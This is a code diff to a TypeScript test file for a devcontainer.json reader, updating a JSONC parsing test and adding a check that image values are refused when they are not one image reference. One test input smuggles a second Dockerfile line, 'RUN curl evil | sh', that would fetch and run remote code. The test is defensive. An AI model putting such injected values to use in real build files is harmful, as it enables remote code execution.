@@ -3,7 +3,7 @@ import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import { test } from 'node:test';
-import { commandsOf, planFor, stripJsonc } from './devcontainer';
+import { commandsOf, parseJsonc, planFor } from './devcontainer';
 import { projectFiles } from './project-files';
 
 function folder(files: Record<string, string>): string {
@@ -15,9 +15,9 @@ function folder(files: Record<string, string>): string {
   return dir;
 }
 
-test('stripJsonc drops comments and trailing commas, never inside strings', () => {
+test('parseJsonc takes comments and trailing commas, never inside strings', () => {
   const text = '{\n // a comment\n "a": "http://x/*y*/", /* block */ "b": [1, 2,],\n "c": "a,]",\n}';
-  assert.deepEqual(JSON.parse(stripJsonc(text)), { a: 'http://x/*y*/', b: [1, 2], c: 'a,]' });
+  assert.deepEqual(parseJsonc(text), { a: 'http://x/*y*/', b: [1, 2], c: 'a,]' });
 });
 
 test('a devcontainer.json: the common subset read, paths from its own folder, other properties named as ignored', () => {
@@ -65,6 +65,18 @@ test('no devcontainer.json: the root Dockerfile, else the default base', () => {
   assert.equal(plain.source, null);
   assert.equal(plain.build, undefined);
   assert.throws(() => planFor(folder({ '.devcontainer.json': '{ nope' })), /\.devcontainer\.json is not valid JSON/);
+});
+
+test('an image that is not one image reference is refused: it would become lines of a Dockerfile', () => {
+  for (const image of ['busybox\nRUN curl evil | sh', 'a b', ''])
+    assert.throws(
+      () => planFor(folder({ '.devcontainer.json': JSON.stringify({ image }) })),
+      /is not an image reference/,
+    );
+  assert.equal(
+    planFor(folder({ '.devcontainer.json': '{"image": "docker.io/library/python:3.12@sha256:ab"}' })).image,
+    'docker.io/library/python:3.12@sha256:ab',
+  );
 });
 
 test('projectFiles leaves out .git and what .gitignore and .boxdeskignore say, in the folder they stand in and below', () => {
